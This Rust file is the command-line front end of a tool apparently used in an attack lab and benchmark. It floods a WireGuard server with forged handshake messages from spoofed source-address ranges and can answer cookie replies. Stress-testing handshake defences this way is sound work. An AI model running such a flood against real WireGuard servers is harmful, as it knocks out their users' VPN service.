//! `wingress-attack`: floods a WireGuard port with what anyone who knows the
//! server's public key can send (see `wingress_lab::attack`), for the
//! attack lab tests and the benchmark.
//!
//! ```text
//! wingress-attack initiation --server-key KEY --target 10.99.0.2:41602 --max --duration 20s
//! wingress-attack initiation --server-key KEY --target 10.99.0.2:41602 --max \
//!     --source 10.99.0.100 --source-count 64 --answer-cookies
//! wingress-attack response --server-key KEY --target 10.99.0.2:41602 --slot 0 --rate 60 --count 200
//! ```
//!
//! Prints one JSON object per line on stdout: `{"second":N,"sent":M}` for
//! every whole second, then the summary `{"kind":..,"sent":..,"seconds":..,
//! "pps":..,"cookie_replies":..,"send_errors":..,"sources":..}`. SIGTERM or
//! SIGINT stop it early, still with the summary.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::AtomicBool;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use base64::Engine as _;
use clap::Parser;
use signal_hook::consts::{SIGINT, SIGTERM};
use wingress_lab::attack::{Flood, Kind};

#[derive(Parser, Debug)]
#[command(
    name = "wingress-attack",
    about = "Flood a WireGuard port with forged handshake messages (lab use only)"
)]
struct Args {
    /// What to send.
    #[arg(value_enum)]
    kind: Kind,
    /// The server's public key, base64 (for mac1 and cookie replies).
    #[arg(long)]
    server_key: String,
    /// The server's WireGuard address.
    #[arg(long)]
    target: SocketAddr,
    /// Packets per second.
    #[arg(long, conflicts_with = "max", required_unless_present = "max")]
    rate: Option<u64>,
    /// As fast as this sender can.
    #[arg(long)]
    max: bool,
    /// How long to send, e.g. `20s`, `500ms`, `2m`.
    #[arg(long, default_value = "10s", value_parser = parse_duration)]
    duration: Duration,
    /// Stop after this many packets.
    #[arg(long)]
    count: Option<u64>,
    /// Source addresses (repeat, or comma-separated); each must be on an
    /// interface of this namespace.
    #[arg(long, value_delimiter = ',', default_value = "0.0.0.0")]
    source: Vec<IpAddr>,
    /// Use this many consecutive addresses from each `--source`.
    #[arg(long, default_value_t = 1)]
    source_count: u32,
    /// The peer slot forged responses and cookie replies aim at (receiver
    /// index `slot << 8 | n`).
    #[arg(long, default_value_t = 0)]
    slot: u32,
    /// Distinct packets to rotate over.
    #[arg(long, default_value_t = 1024)]
    pool: usize,
    /// Answer the server's cookie replies (mac2 on later handshake messages
    /// from that source), as an attacker owning its addresses can.
    #[arg(long)]
    answer_cookies: bool,
}

fn parse_duration(s: &str) -> Result<Duration, String> {
    let (num, unit) = s
        .find(|c: char| !c.is_ascii_digit() && c != '.')
        .map_or((s, "s"), |i| s.split_at(i));
    let n: f64 = num.parse().map_err(|_| format!("not a duration: {s:?}"))?;
    let secs = match unit {
        "ms" => n / 1000.0,
        "s" => n,
        "m" => n * 60.0,
        _ => return Err(format!("unknown unit in {s:?} (ms, s, m)")),
    };
    Duration::try_from_secs_f64(secs).map_err(|e| format!("{s:?}: {e}"))
}

/// `count` consecutive addresses from `first`.
fn consecutive(first: IpAddr, count: u32) -> Result<Vec<IpAddr>> {
    (0..count)
        .map(|i| match first {
            IpAddr::V4(a) => u32::from(a)
                .checked_add(i)
                .map(|n| IpAddr::V4(n.into()))
                .context("address range overflows"),
            IpAddr::V6(a) => u128::from(a)
                .checked_add(u128::from(i))
                .map(|n| IpAddr::V6(n.into()))
                .context("address range overflows"),
        })
        .collect()
}

fn main() -> Result<()> {
    let args = Args::parse();
    let key = base64::engine::general_purpose::STANDARD
        .decode(args.server_key.trim())
        .context("--server-key is not base64")?;
    let Ok(server_key) = <[u8; 32]>::try_from(key.as_slice()) else {
        bail!("--server-key must be 32 bytes, got {}", key.len());
    };
    let mut sources = Vec::new();
    for s in &args.source {
        sources.extend(consecutive(*s, args.source_count.max(1))?);
    }
    let flood = Flood {
        kind: args.kind,
        server_key,
        target: args.target,
        sources,
        rate: if args.max { None } else { args.rate },
        duration: args.duration,
        count: args.count,
        slot: args.slot,
        pool: args.pool,
        answer_cookies: args.answer_cookies,
    };
    let stop = Arc::new(AtomicBool::new(false));
    for sig in [SIGINT, SIGTERM] {
        signal_hook::flag::register(sig, stop.clone()).context("cannot install signal handlers")?;
    }
    let mut second = 0;
    let report = flood.run(&stop, |sent| {
        second += 1;
        println!("{{\"second\":{second},\"sent\":{sent}}}");
    })?;
    println!(
        "{{\"kind\":\"{}\",\"sent\":{},\"seconds\":{:.3},\"pps\":{:.0},\"cookie_replies\":{},\"send_errors\":{},\"sources\":{}}}",
        args.kind.as_str(),
        report.sent,
        report.elapsed.as_secs_f64(),
        report.per_second(),
        report.cookie_replies,
        report.send_errors,
        flood.sources.len()
    );
    Ok(())
}

#[cfg(test)]
#[path = "tests.rs"]
mod tests;
